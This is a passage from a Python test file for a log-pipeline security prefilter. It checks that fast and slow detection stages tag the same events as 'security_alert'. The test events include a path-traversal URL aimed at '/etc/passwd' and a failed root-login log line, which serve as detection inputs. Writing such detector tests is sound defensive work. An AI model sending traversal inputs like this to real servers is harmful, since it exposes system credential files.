    slow = stage(tag="security_alert")
    slow._prefilter = None
    assert fast([_deep(e) for e in events]) == slow([_deep(e) for e in events])
    known = [k for fields in fast._prefilter(events)[0].values() for k in fields.values()]
    assert any(k is not None and "\x00" in k[0] for k in known)  # a normal form from the batch


def test_newline_free_versions_hyperscan_refuses_leave_the_patterns_as_written(
    monkeypatch,
) -> None:
    import logpipe.security_prefilter as prefilter

    monkeypatch.setattr(prefilter, "newline_free", lambda pattern: "a{2,1}")  # refused
    events = [url("/../../etc/passwd"), {"message": "Failed password for root from 192.0.2.1"}]
    fast = stage(tag="security_alert")
    assert all(group.exact == frozenset() for group in fast._prefilter._groups)
    slow = stage(tag="security_alert")
    slow._prefilter = None
    assert fast([_deep(e) for e in events]) == slow([_deep(e) for e in events])
    assert fast([_deep(e) for e in events])[0]["tags"][0] == "security_alert"
